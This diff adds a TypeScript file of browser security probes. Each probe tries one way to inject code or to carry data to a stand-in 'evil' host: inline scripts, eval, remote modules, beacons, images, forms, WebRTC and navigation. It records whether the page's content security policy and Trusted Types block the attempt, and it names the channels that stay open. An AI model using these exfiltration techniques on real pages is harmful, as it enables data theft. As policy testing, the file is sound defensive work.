@@ -1,0 +1,305 @@
+import type { Probe } from './probe.ts'
+
+/** Running more code than was injected. */
+export const codeProbes: readonly Probe[] = [
+  {
+    tries: 'Write a `<script>` into the page with `innerHTML`',
+    outcome: 'blocked',
+    because: 'Trusted Types: a string cannot become markup',
+    run: async () => {
+      document.body.insertAdjacentElement('beforeend', document.createElement('div'))
+      try {
+        document.body.innerHTML += '<script>window.probeRan = true</script>'
+        return 'possible'
+      } catch {
+        return 'blocked'
+      }
+    },
+  },
+  {
+    tries: 'Add an inline `<script>` element',
+    outcome: 'blocked',
+    because: 'Trusted Types, and `script-src` without `unsafe-inline`',
+    run: async () => {
+      const script = document.createElement('script')
+      try {
+        script.append('window.probeRan = true')
+        document.head.append(script)
+      } catch {
+        return 'blocked'
+      }
+      return Reflect.get(window, 'probeRan') ? 'possible' : 'blocked'
+    },
+  },
+  {
+    tries: 'Set an inline event handler (`onclick="…"`)',
+    outcome: 'blocked',
+    because: 'Trusted Types, and `script-src` without `unsafe-inline`',
+    run: async () => {
+      const button = document.createElement('button')
+      try {
+        button.setAttribute('onclick', 'window.probeRan = true')
+        document.body.append(button)
+        button.click()
+      } catch {
+        return 'blocked'
+      }
+      return Reflect.get(window, 'probeRan') ? 'possible' : 'blocked'
+    },
+  },
+  {
+    tries: '`eval`, `new Function`, `setTimeout` with a string',
+    outcome: 'blocked',
+    because: 'Trusted Types, and `script-src` without `unsafe-eval`',
+    run: async () => {
+      await new Promise((resolve) => setTimeout(resolve))
+      let ran = 0
+      for (const attempt of [
+        () => Reflect.apply(Reflect.get(window, 'eval'), window, ['1']),
+        () => Reflect.construct(Function, ['return 1'])(),
+        () => Reflect.apply(setTimeout, window, ['window.probeRan = true', 0]),
+      ]) {
+        try {
+          attempt()
+          ran += 1
+        } catch {}
+      }
+      return ran > 0 ? 'possible' : 'blocked'
+    },
+  },
+  {
+    tries: 'Follow a `javascript:` link',
+    leaves: true,
+    outcome: 'blocked',
+    because: '`script-src` without `unsafe-inline`, and Trusted Types',
+    run: async () => {
+      const link = document.createElement('a')
+      link.href = 'javascript:window.probeRan = true'
+      document.body.append(link)
+      link.click()
+      return undefined
+    },
+  },
+  {
+    tries: 'Load a script from elsewhere (`<script src>`)',
+    outcome: 'blocked',
+    because: "Trusted Types, and `script-src 'self'`",
+    run: async ({ evil }) => {
+      const script = document.createElement('script')
+      try {
+        script.src = `${evil}/script.js`
+        document.head.append(script)
+      } catch {
+        return 'blocked'
+      }
+      return undefined
+    },
+  },
+  {
+    tries: 'Load a module from elsewhere (`import()`)',
+    outcome: 'blocked',
+    because: "`script-src 'self'`",
+    run: async ({ evil }) =>
+      import(`${evil}/script.js`).then(
+        () => 'possible' as const,
+        () => 'blocked' as const,
+      ),
+  },
+  {
+    tries: 'Start a worker, from a file or from memory',
+    outcome: 'blocked',
+    because: "Trusted Types, and `worker-src 'none'`",
+    run: async () => {
+      for (const url of ['/theme.js', URL.createObjectURL(new Blob(['postMessage(1)']))]) {
+        try {
+          new Worker(url)
+          return undefined
+        } catch {}
+      }
+      return 'blocked'
+    },
+  },
+  {
+    tries: 'Register a service worker, which would outlive the page',
+    outcome: 'blocked',
+    because: "Trusted Types, and `worker-src 'none'`",
+    run: async () => {
+      try {
+        await navigator.serviceWorker.register('/theme.js')
+        return 'possible'
+      } catch {
+        return 'blocked'
+      }
+    },
+  },
+  {
+    tries: 'Redirect all relative addresses with `<base>`',
+    outcome: 'blocked',
+    because: "`base-uri 'none'`",
+    run: async ({ evil }) => {
+      const base = document.createElement('base')
+      base.href = `${evil}/`
+      document.head.prepend(base)
+      const moved = new URL('x', document.baseURI).origin === evil
+      base.remove()
+      return moved ? 'possible' : 'blocked'
+    },
+  },
+]
+
+/** Carrying something away. */
+export const exfiltrationProbes: readonly Probe[] = [
+  {
+    tries: '`fetch` to another site',
+    outcome: 'blocked',
+    because: '`connect-src` names the API and the pool alone',
+    run: async ({ evil }) =>
+      fetch(`${evil}/fetch`, { mode: 'no-cors' }).then(
+        () => 'possible' as const,
+        () => 'blocked' as const,
+      ),
+  },
+  {
+    tries: '`navigator.sendBeacon` to another site',
+    outcome: 'blocked',
+    because: '`connect-src`',
+    run: async ({ evil }) => {
+      navigator.sendBeacon(`${evil}/beacon`, 'x')
+      return undefined
+    },
+  },
+  {
+    tries: 'A WebSocket to another site',
+    outcome: 'blocked',
+    because: '`connect-src`',
+    run: async ({ evil }) => {
+      try {
+        new WebSocket(`${evil.replace('http', 'ws')}/socket`)
+      } catch {
+        return 'blocked'
+      }
+      return undefined
+    },
+  },
+  {
+    tries: 'An `EventSource` on another site',
+    outcome: 'blocked',
+    because: '`connect-src`',
+    run: async ({ evil }) => {
+      try {
+        new EventSource(`${evil}/events`)
+      } catch {
+        return 'blocked'
+      }
+      return undefined
+    },
+  },
+  {
+    tries: 'A picture from another site, with the loot in its address',
+    outcome: 'blocked',
+    because: "`img-src 'self'`",
+    run: async ({ evil }) => {
+      new Image().src = `${evil}/image?loot`
+      return undefined
+    },
+  },
+  {
+    tries: 'A style sheet from another site',
+    outcome: 'blocked',
+    because: "`style-src 'self'`",
+    run: async ({ evil }) => {
+      const link = document.createElement('link')
+      link.rel = 'stylesheet'
+      link.href = `${evil}/style.css`
+      document.head.append(link)
+      return undefined
+    },
+  },
+  {
+    tries: 'A background picture, set through the style of an element',
+    outcome: 'blocked',
+    because: "`img-src 'self'`",
+    run: async ({ evil }) => {
+      document.body.style.backgroundImage = `url(${evil}/background?loot)`
+      return undefined
+    },
+  },
+  {
+    tries: 'A font from another site',
+    outcome: 'blocked',
+    because: "`font-src 'self'`",
+    run: async ({ evil }) => {
+      await new FontFace('probe', `url(${evil}/font)`).load().catch(() => undefined)
+      return undefined
+    },
+  },
+  {
+    tries: '`<link rel="prefetch">` of another site',
+    outcome: 'blocked',
+    because: "`default-src 'none'`",
+    run: async ({ evil }) => {
+      const link = document.createElement('link')
+      link.rel = 'prefetch'
+      link.href = `${evil}/prefetch?loot`
+      document.head.append(link)
+      return undefined
+    },
+  },
+  {
+    tries: 'Reach a server of its own over WebRTC',
+    leaves: true,
+    outcome: 'possible',
+    because: '`connect-src` does not cover it, and Chromium knows no directive that does',
+    run: async ({ datagrams }) => {
+      const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${datagrams}` }] })
+      connection.createDataChannel('loot')
+      await connection.setLocalDescription(await connection.createOffer())
+      return undefined
+    },
+  },
+  {
+    tries: 'Submit a form to another site',
+    leaves: true,
+    outcome: 'blocked',
+    because: "`form-action 'none'`",
+    run: async ({ evil }) => {
+      const form = document.createElement('form')
+      form.action = `${evil}/form`
+      form.method = 'post'
+      document.body.append(form)
+      form.submit()
+      return undefined
+    },
+  },
+  {
+    tries: 'A frame of another site',
+    outcome: 'blocked',
+    because: "`frame-src 'none'`",
+    run: async ({ evil }) => {
+      const frame = document.createElement('iframe')
+      frame.src = `${evil}/frame?loot`
+      document.body.append(frame)
+      return undefined
+    },
+  },
+  {
+    tries: 'Open a window of another site, with the loot in its address',
+    leaves: true,
+    outcome: 'possible',
+    because: 'no policy stops a navigation; without a click the pop-up blocker may',
+    run: async ({ evil }) => {
+      window.open(`${evil}/window?loot`)
+      return undefined
+    },
+  },
+  {
+    tries: 'Leave for another site, with the loot in its address',
+    leaves: true,
+    outcome: 'possible',
+    because: 'no policy stops a navigation: `connect-src` is no wall against it',
+    run: async ({ evil }) => {
+      location.href = `${evil}/navigation?loot`
+      return undefined
+    },
+  },
+]
